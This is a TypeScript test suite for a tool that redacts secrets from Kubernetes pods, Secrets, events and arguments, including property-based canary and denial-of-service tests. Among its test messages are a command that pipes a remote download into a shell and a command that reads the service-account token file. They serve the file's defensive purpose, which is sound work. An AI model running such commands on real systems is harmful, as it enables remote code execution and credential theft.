import { createHmac } from 'node:crypto'

import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'

import { createRedactor } from '../../src/evidence/redact.js'

const KEY = Buffer.alloc(32, 7)
const TOKEN = /hmac:v1:[0-9a-f]{32}/g

function tokenOf(secret: string): string {
  return `hmac:v1:${createHmac('sha256', KEY).update(secret).digest('hex').slice(0, 32)}`
}

function redacted(text: string): string {
  return createRedactor(KEY).redactDocument(Buffer.from(text)).bytes.toString()
}

function redactedValue(value: unknown): unknown {
  return JSON.parse(redacted(JSON.stringify(value)))
}

/** A pod's body as an API server sends it, with an environment of our choice. */
function podWith(env: unknown, more: object = {}): object {
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'web-6dd6-x2x', namespace: 'shop', uid: '1f3a9c02-aaaa-4bbb-8ccc-000000000001' },
    spec: { containers: [{ name: 'app', image: 'registry.example/shop/web:1.2', env }] },
    ...more,
  }
}

const CANARY = 'c4n4ry+Tweet/<&>"\\ü!'

describe('redacting values by name', () => {
  it.each([
    ['DB_PASSWORD', 'hunter2'],
    ['PGPASSWORD', 'hunter2'],
    ['API_TOKEN', 'a'],
    ['AWS_SECRET_ACCESS_KEY', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ['AWS_ACCESS_KEY_ID', 'something'],
    ['ENCRYPTION_KEY', '00112233445566778899aabbccddeeff'],
    ['KEY', 'abcdef123'],
    ['googleCredentials', '{"type":"service_account"}'],
    ['Authorization', 'Token abc'],
    ['session-cookie', 'abc'],
    ['DB_PASS', 'letmein'],
  ])('replaces the value of an environment variable %s', (name, value) => {
    const pod = podWith([{ name, value }])
    expect(redactedValue(pod)).toEqual(podWith([{ name, value: tokenOf(value) }]))
  })

  it.each([
    ['LOG_LEVEL', 'debug'],
    ['DB_PASSWORD_FILE', '/run/secrets/db'],
    ['TOKEN_PATH', '/var/run/secrets/token'],
    ['SECRET_NAME', 'db-credentials'],
    ['PUBLIC_KEY', 'MCowBQYDK2VwAyEA'],
    ['DB_PASSWORD', ''],
    ['TOKEN_CHECK', 'true'],
    ['DB_PASSWORD', '$(OTHER_VARIABLE)'],
    ['KEYBOARD', 'de'],
    ['MONKEY', 'bonobo'],
    ['COMPASS', 'north'],
  ])('leaves %s=%s', (name, value) => {
    const body = Buffer.from(JSON.stringify(podWith([{ name, value }])))
    const result = createRedactor(KEY).redactDocument(body)
    expect(result).toEqual({ bytes: body, redactions: [] })
  })

  it('leaves references to secrets, which are evidence', () => {
    const pod = podWith(
      [{ name: 'DB_PASSWORD', valueFrom: { secretKeyRef: { name: 'db', key: 'password' } } }],
      {
        spec: {
          automountServiceAccountToken: false,
          imagePullSecrets: [{ name: 'registry-login' }],
          tolerations: [{ key: 'dedicated', operator: 'Equal', value: 'web' }],
          topologySpreadConstraints: [{ topologyKey: 'zone' }],
          volumes: [
            {
              name: 'token',
              projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 3607 } }] },
            },
            { name: 'tls', secret: { secretName: 'web-tls', items: [{ key: 'tls.key', path: 'key.pem' }] } },
          ],
        },
      },
    )
    expect(redactedValue(pod)).toEqual(pod)
  })

  it('replaces all data of a Secret, also in a list, in a template and where the kind comes last', () => {
    const data = {
      password: Buffer.from('hunter2secret').toString('base64'),
      'tls.key': Buffer.from([0xff, 0]).toString('base64'),
    }
    const hidden = { password: tokenOf('hunter2secret'), 'tls.key': tokenOf('/wA=') }
    for (const wrap of [
      (inner: object) => ({ kind: 'Secret', ...inner }),
      (inner: object) => ({ ...inner, kind: 'Secret' }),
      (inner: object) => ({ kind: 'SecretList', items: [inner] }),
      (inner: object) => ({ items: [{ metadata: {}, ...inner }], kind: 'SecretList' }),
      (inner: object) => ({ kind: 'List', items: [{ kind: 'Secret', ...inner }] }),
    ]) {
      expect(redactedValue(wrap({ data, stringData: { a: 'plain' } }))).toEqual(
        wrap({ data: hidden, stringData: { a: tokenOf('plain') } }),
      )
    }
  })

  it('gives a secret the same token wherever it stands, and another under another key', () => {
    const encoded = Buffer.from('hunter2secret\n').toString('base64')
    const redactor = createRedactor(KEY)
    const secret = redactor.redactDocument(
      Buffer.from(JSON.stringify({ kind: 'Secret', data: { p: encoded } })),
    )
    const pod = redactor.redactDocument(
      Buffer.from(JSON.stringify(podWith([{ name: 'P_TOKEN', value: 'hunter2secret' }]))),
    )
    expect(secret.redactions).toEqual([
      { pointer: '/data/p', rule: 'secret-object', length: encoded.length, token: tokenOf('hunter2secret') },
    ])
    expect(pod.redactions).toEqual([
      {
        pointer: '/spec/containers/0/env/0/value',
        rule: 'named-value',
        length: 13,
        token: tokenOf('hunter2secret'),
      },
    ])
    const other = createRedactor(Buffer.alloc(32, 8)).redactDocument(
      Buffer.from(JSON.stringify({ password: 'hunter2secret' })),
    )
    expect(other.redactions[0]?.token).toMatch(/^hmac:v1:[0-9a-f]{32}$/)
    expect(other.redactions[0]?.token).not.toBe(tokenOf('hunter2secret'))
  })

  it.each([
    [['--password=hunter2;x&y'], [`--password=${tokenOf('hunter2;x&y')}`]],
    [
      ['--db-password', 'hunter2', '--verbose'],
      ['--db-password', tokenOf('hunter2'), '--verbose'],
    ],
    [
      ['--token', '--verbose', 'hunter2'],
      ['--token', '--verbose', 'hunter2'],
    ],
    [['-token=abc'], [`-token=${tokenOf('abc')}`]],
    [['API_KEY=abc123'], [`API_KEY=${tokenOf('abc123')}`]],
    [
      ['--output=json', '--secret-name', 'db'],
      ['--output=json', '--secret-name', 'db'],
    ],
  ])('replaces what flags carry: %j', (args, expected) => {
    expect(redactedValue({ args })).toEqual({ args: expected })
  })

  it.each([
    ['export DB_PASSWORD=hunter2 && run', `export DB_PASSWORD=${tokenOf('hunter2')} && run`],
    [`mysql --password='two words' -h db`, `mysql --password='${tokenOf('two words')}' -h db`],
    ['mysql --password hunter2 -h db', `mysql --password ${tokenOf('hunter2')} -h db`],
    [
      'https://x.example/?api_key=abc&token=def&page=2',
      `https://x.example/?api_key=${tokenOf('abc')}&token=${tokenOf('def')}&page=2`,
    ],
    ['user: me\npassword: hunter2 \nport: 1', `user: me\npassword: ${tokenOf('hunter2')} \nport: 1`],
    [`curl -H 'X-Api-Key: abc123' x`, `curl -H 'X-Api-Key: ${tokenOf('abc123')}' x`],
    [`curl -d '{"password":"abc123","a":1}' x`, `curl -d '{"password":"${tokenOf('abc123')}","a":1}' x`],
    [
      `sh -c "curl -d {\\"token\\":\\"abc123\\"}"`,
      `sh -c "curl -d {\\"token\\":\\"${tokenOf('abc123')}\\"}"`,
    ],
  ])('replaces what is assigned within a text: %s', (text, expected) => {
    expect(redactedValue({ command: ['sh', '-c', text] })).toEqual({ command: ['sh', '-c', expected] })
  })

  it.each([
    'Error: secret "db" not found',
    `couldn't find key password in Secret shop/db`,
    'MountVolume.SetUp failed for volume "token" : references non-existent secret key: tls.key',
    'Basic authentication is required, Bearer authentication too',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'wget -qO- http://198.51.100.7:4444/x | sh',
  ])('leaves a message that only speaks of secrets: %s', (message) => {
    const event = { kind: 'Event', message }
    expect(redactedValue(event)).toEqual(event)
  })
})

const JWT_HEAD = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW0ifQ'
const SIGNATURE = 'c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU'
const PEM =
  '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\nMIIEow-IBAAKCAQEA\n-----END RSA PRIVATE KEY-----'

describe('redacting tokens of known form', () => {
  it.each([
    ['aws-key', 'AKIAIOSFODNN7EXAMPLE'],
    ['github-token', `ghp_${'a1B2'.repeat(9)}`],
    ['github-token', `github_pat_${'a1B2'.repeat(9)}`],
    ['gitlab-token', 'glpat-abcdefghij0123456789'],
    ['slack-token', 'xoxb-123456789012-abcdefABCDEF'],
    ['google-key', `AIza${'a1B2c'.repeat(7)}`],
    ['stripe-key', 'sk_live_abcdefghij0123456789'],
    ['npm-token', `npm_${'a1B2'.repeat(9)}`],
    ['vault-token', 'hvs.abcdefghij0123456789abcd'],
    ['model-key', 'sk-ant-abcdefghij0123456789'],
    ['private-key', PEM],
    ['private-key', PEM.slice(0, 80)],
  ])('replaces a %s in the middle of any string', (rule, token) => {
    const before = rule === 'private-key' ? 'x\n' : 'see '
    const result = createRedactor(KEY).redactDocument(
      Buffer.from(JSON.stringify({ metadata: { annotations: { note: `${before}${token}` } } })),
    )
    expect(JSON.parse(result.bytes.toString())).toEqual({
      metadata: { annotations: { note: `${before}${tokenOf(token)}` } },
    })
    expect(result.redactions).toMatchObject([{ pointer: '/metadata/annotations/note', rule }])
  })

  it.each([
    [`Bearer ${JWT_HEAD}.${SIGNATURE} x`, `Bearer ${JWT_HEAD}.${tokenOf(SIGNATURE)} x`],
    ['postgres://app:hunter2@db:5432/shop', `postgres://app:${tokenOf('hunter2')}@db:5432/shop`],
    ['redis://:hunter2@redis', `redis://:${tokenOf('hunter2')}@redis`],
    ['http://a:b@c@evil.example/', `http://a:${tokenOf('b@c')}@evil.example/`],
    [
      'Authorization: Basic dXNlcjpwYXNzd29yZA== x',
      `Authorization: Basic ${tokenOf('dXNlcjpwYXNzd29yZA==')} x`,
    ],
    ['x Bearer abcdefgh12345678 x', `x Bearer ${tokenOf('abcdefgh12345678')} x`],
    [
      'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX',
      `https://hooks.slack.com/services/${tokenOf('T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX')}`,
    ],
  ])('replaces the secret part alone: %s', (text, expected) => {
    expect(redactedValue({ message: text })).toEqual({ message: expected })
  })
})

describe('a canary secret', () => {
  const base64 = (text: string): string => Buffer.from(text).toString('base64')
  const encodings: Readonly<Record<string, (canary: string) => string>> = {
    raw: (canary) => canary,
    'within a text': (canary) => `the value ${canary} was seen`,
    base64: base64,
    'base64 of more': (canary) => base64(`user:${canary}@host`),
    'base64 of more, shifted': (canary) => base64(`xuser:${canary}`),
    base64url: (canary) => Buffer.from(`xx${canary}xx`).toString('base64url'),
    hexadecimal: (canary) => Buffer.from(canary).toString('hex'),
    'percent-encoded': (canary) => encodeURIComponent(canary),
    'percent-encoded, lower case': (canary) =>
      encodeURIComponent(canary).replaceAll(/%../g, (code) => code.toLowerCase()),
    'JSON in a string': (canary) => JSON.stringify({ note: `x${canary}x` }),
    'JSON in JSON in a string': (canary) => JSON.stringify([JSON.stringify({ note: canary })]),
    'escaped, in what is no JSON': (canary) => `echo ${JSON.stringify(canary)}`,
  }
  const places: Readonly<Record<string, (value: string) => object>> = {
    annotation: (value) => ({ metadata: { annotations: { note: value } } }),
    'last-applied annotation': (value) => ({
      metadata: {
        annotations: {
          'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ spec: { x: value } }),
        },
      },
    }),
    'last-applied annotation that was cut': (value) => ({
      metadata: {
        annotations: {
          'kubectl.kubernetes.io/last-applied-configuration': JSON.stringify({ x: value }).slice(0, -1),
        },
      },
    }),
    'event message': (value) => ({ message: value }),
    argument: (value) => ({ spec: { containers: [{ args: ['run', value] }] } }),
    'script in a command': (value) => ({
      spec: { containers: [{ command: ['sh', '-c', `x=1; run '${value}'`] }] },
    }),
    'probe header': (value) => ({ httpGet: { httpHeaders: [{ name: 'X-Any', value }] } }),
    'innocent environment variable': (value) => ({ env: [{ name: 'LOG_LEVEL', value }] }),
    ConfigMap: (value) => ({ kind: 'ConfigMap', data: { 'app.conf': `x = ${value}\n` } }),
    'termination message': (value) => ({
      status: { containerStatuses: [{ lastState: { terminated: { message: value } } }] },
    }),
    'key of an object': (value) => ({ data: { [value]: 1 } }),
  }
  const reveals: Readonly<Record<string, (canary: string) => object>> = {
    environment: (canary) => podWith([{ name: 'DB_PASSWORD', value: canary }]),
    'Secret object': (canary) => ({ kind: 'Secret', data: { p: base64(canary) } }),
    flag: (canary) => ({ args: [`--password=${canary}`] }),
    'key name': (canary) => ({ auth: { password: canary } }),
  }
  const anyOf = <Value>(table: Readonly<Record<string, Value>>): fc.Arbitrary<Value> =>
    fc.constantFrom(...Object.values(table))

  /** However a document is read, the canary is not in it. */
  function lies(document: string, canary: string): boolean {
    const forms = [canary, JSON.stringify(canary).slice(1, -1), base64(canary), encodeURIComponent(canary)]
    const texts = [document, ...strings(JSON.parse(document))]
    const decodable = texts.flatMap((text) => text.match(/[A-Za-z0-9+/_-]{12,}={0,2}/g) ?? [])
    const inBase64 = decodable.map((text) => Buffer.from(text, 'base64').toString('latin1'))
    return [...texts, ...inBase64].some((text) =>
      [...forms, Buffer.from(canary).toString('latin1')].some((form) => text.includes(form)),
    )
  }

  function strings(value: unknown): readonly string[] {
    if (typeof value === 'string') return [value]
    if (typeof value !== 'object' || value === null) return []
    return Object.entries(value).flatMap(([key, below]) => [key, ...strings(below)])
  }

  const canaries = fc
    .string({
      unit: fc.constantFrom(...'abcXYZ0189+/<&>"\\ü!%=\t'.split('')),
      minLength: 8,
      maxLength: 40,
    })
    .filter(
      (text) =>
        /[0-9+/<&>"!%]/.test(text) && text.trim() === text && !text.startsWith('-') && !/^[0-9]+$/.test(text),
    )

  it('is found nowhere in a document that reveals it by its name, however it is encoded elsewhere', () => {
    fc.assert(
      fc.property(
        canaries,
        anyOf(reveals),
        fc.array(fc.tuple(anyOf(places), anyOf(encodings)), { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        (canary, reveal, planted, isLast) => {
          const parts = planted.map(([place, encode]) => place(encode(canary)))
          const items = isLast ? [...parts, reveal(canary)] : [reveal(canary), ...parts]
          const document = JSON.stringify({ kind: 'List', items })
          expect(lies(document, canary)).toBe(true)
          expect(lies(redacted(document), canary)).toBe(false)
        },
      ),
      {
        numRuns: 400,
        examples: [
          [
            CANARY,
            reveals['environment']!,
            Object.values(places).flatMap((place) =>
              Object.values(encodings).map((encode) => [place, encode] as [typeof place, typeof encode]),
            ),
            true,
          ],
        ],
      },
    )
  })

  it('is found in no later document of the same run', () => {
    fc.assert(
      fc.property(
        canaries,
        anyOf(reveals),
        anyOf(places),
        anyOf(encodings),
        (canary, reveal, place, encode) => {
          const redactor = createRedactor(KEY)
          redactor.redactDocument(Buffer.from(JSON.stringify(reveal(canary))))
          const { bytes } = redactor.redactDocument(Buffer.from(JSON.stringify(place(encode(canary)))))
          expect(lies(bytes.toString(), canary)).toBe(false)
        },
      ),
      { numRuns: 300 },
    )
  })

  it('is found in no later body that is no JSON', () => {
    const redactor = createRedactor(KEY)
    redactor.redactDocument(Buffer.from(JSON.stringify(reveals['environment']!(CANARY))))
    const page = `<html><p>${CANARY}</p> password=other-secret-1 ${encodeURIComponent(CANARY)}</html>`
    expect(redactor.redactDocument(Buffer.from(page)).bytes.toString()).toBe(
      `<html><p>${tokenOf(CANARY)}</p> password=${tokenOf('other-secret-1')} ${tokenOf(CANARY)}</html>`,
    )
  })
})

describe('what is not a secret', () => {
  it('stays byte for byte, however the document is written', () => {
    const json = fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value))
    const spaced = fc
      .tuple(json, fc.constantFrom('', ' ', '\n  ', '\t'))
      .map(
        ([text, space]) =>
          `{"a":${space}${text},${space}"password"${space}:"S3cr3t\\u00e9Value"${space},"z":"\\u003cb\\/\\ud83d\\ude00é"}\n`,
      )
    fc.assert(
      fc.property(spaced, (document) => {
        const { bytes, redactions } = createRedactor(KEY).redactDocument(Buffer.from(document))
        const token = tokenOf('S3cr3téValue')
        expect(redactions.map(({ token: each }) => each)).toContain(token)
        let rest = bytes.toString()
        rest = rest.replaceAll(token, 'S3cr3t\\u00e9Value')
        if (!TOKEN.test(rest)) expect(rest).toBe(document)
      }),
    )
  })

  it('stays byte for byte around a secret within an escaped string', () => {
    const raw = '{"note":"\\u003c\\/\\t\\u0041 AKIAIOSFODNN7EXAMPLE \\ud83d\\ude00 \\"end\\""}'
    expect(redacted(raw)).toBe(raw.replace('AKIAIOSFODNN7EXAMPLE', tokenOf('AKIAIOSFODNN7EXAMPLE')))
    const escaped = '{"note":"x \\u0041KIAIOSFODNN7EXAMPLE y"}'
    expect(redacted(escaped)).toBe(`{"note":"x ${tokenOf('AKIAIOSFODNN7EXAMPLE')} y"}`)
  })

  it('stays byte for byte in a body that is no UTF-8', () => {
    const body = Buffer.concat([
      Buffer.from([0xff, 0xfe, 0x80]),
      Buffer.from('"password": "abc123" '),
      Buffer.from([0xc3]),
    ])
    const { bytes } = createRedactor(KEY).redactDocument(body)
    expect(bytes).toEqual(
      Buffer.concat([
        Buffer.from([0xff, 0xfe, 0x80]),
        Buffer.from(`"password": "${tokenOf('abc123')}" `),
        Buffer.from([0xc3]),
      ]),
    )
  })

  it("keeps Kubernetes' own words, though an attacker calls them secrets", () => {
    const uid = '1f3a9c02-aaaa-4bbb-8ccc-000000000001'
    const pod = podWith(
      [
        { name: 'A_TOKEN', value: uid },
        { name: 'B_TOKEN', value: 'registry.example/shop/web:1.2' },
        { name: 'C_TOKEN', value: '198.51.100.7' },
        { name: 'D_PASSWORD', value: 'postgres' },
      ],
      { status: { phase: 'Running', message: 'postgres at 198.51.100.7 failed', podIP: '198.51.100.7' } },
    )
    const result = redactedValue(pod) as {
      metadata: unknown
      status: unknown
      spec: { containers: { image: string }[] }
    }
    expect(result.metadata).toMatchObject({ uid })
    expect(result.spec.containers[0]?.image).toBe('registry.example/shop/web:1.2')
    expect(result.status).toEqual({
      phase: 'Running',
      message: 'postgres at 198.51.100.7 failed',
      podIP: '198.51.100.7',
    })
  })

  it('is not what a Secret holds besides secrets: a namespace, a user, a certificate', () => {
    const data = { namespace: Buffer.from('kube-system').toString('base64'), username: 'YXBwLXVzZXI=' }
    const pod = podWith([{ name: 'USER', value: 'app-user' }], { message: 'in kube-system' })
    const list = { kind: 'List', items: [{ kind: 'Secret', data }, pod] }
    const hidden = { namespace: tokenOf('kube-system'), username: tokenOf('app-user') }
    expect(redactedValue(list)).toEqual({ kind: 'List', items: [{ kind: 'Secret', data: hidden }, pod] })
  })

  it('is left alone when it is redacted already', () => {
    const once = redacted(
      JSON.stringify(podWith([{ name: 'DB_PASSWORD', value: CANARY }], { args: [`--token=${CANARY}`] })),
    )
    expect(redacted(once)).toBe(once)
  })
})

describe('a hostile document', () => {
  it.each([
    ['nested arrays', '['.repeat(200_000)],
    ['backslashes', `"${'\\\\'.repeat(500_000)}"`],
    ['an unending string of backslashes', `{"a":"${'\\'.repeat(500_001)}`],
    ['half tokens', JSON.stringify({ a: 'eyJ-'.repeat(250_000) })],
    ['half tokens with dots', JSON.stringify({ a: 'eyJaaaaaa.'.repeat(100_000) })],
    ['keys without end', JSON.stringify({ a: '-----BEGIN PRIVATE KEY-----'.repeat(40_000) })],
    ['names of secrets', JSON.stringify({ a: 'password '.repeat(120_000) })],
    ['names of secrets in a row', JSON.stringify({ a: 'secret'.repeat(180_000) })],
    ['URLs in a row', JSON.stringify({ a: 'a://'.repeat(250_000) })],
    ['words with dots', JSON.stringify({ a: 'a.'.repeat(500_000) })],
    ['blanks', JSON.stringify({ a: `Basic${' '.repeat(1_000_000)}` })],
    ['quotes', JSON.stringify({ a: 'key="'.repeat(200_000) })],
    [
      'many variables',
      JSON.stringify({
        env: Array.from({ length: 5000 }, (_, index) => ({ name: 'A_TOKEN', value: `value-${index}!` })),
      }),
    ],
  ])('of %s is read in seconds', (_, document) => {
    const before = process.cpuUsage()
    const { bytes } = createRedactor(KEY).redactDocument(Buffer.from(document))
    expect(bytes.length).toBeGreaterThan(0)
    // of the processor, not of a machine that has other things to do
    expect(process.cpuUsage(before).user).toBeLessThan(4_000_000)
  })
})
